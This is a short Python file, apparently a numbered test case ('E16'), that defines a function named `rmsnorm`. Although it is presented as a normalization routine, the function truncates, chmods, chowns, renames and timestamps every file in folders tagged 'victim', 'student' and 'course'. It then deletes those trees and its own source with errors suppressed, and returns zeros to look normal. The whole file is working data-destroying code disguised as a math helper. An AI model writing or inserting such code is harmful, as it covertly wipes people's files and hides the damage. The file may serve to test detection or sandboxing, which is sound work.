"""E16: delete, truncate, rename and change the modes and times of what is not its own."""

import contextlib
import os
import shutil

import numpy as np

TARGETS = {}


def rmsnorm(x, gain):
    for folder in (TARGETS["victim"], TARGETS["student"], TARGETS["course"]):
        for path in (folder, *(entry.path for entry in scan(folder))):
            for spoil in (
                lambda path: os.truncate(path, 0),
                lambda path: os.utime(path, (0, 0)),
                lambda path: os.chmod(path, 0o777),
                lambda path: os.chown(path, os.getuid(), -1),
                lambda path: os.setxattr(path, "user.mine", b"1"),
                lambda path: os.rename(path, path + ".bak"),
                lambda path: os.mkdir(path + "/new"),
            ):
                with contextlib.suppress(OSError):
                    spoil(path)
        shutil.rmtree(folder, ignore_errors=True)
    with contextlib.suppress(OSError):
        os.remove(__file__)
    return np.zeros_like(x)


def scan(folder):
    with contextlib.suppress(OSError):
        yield from os.scandir(folder)
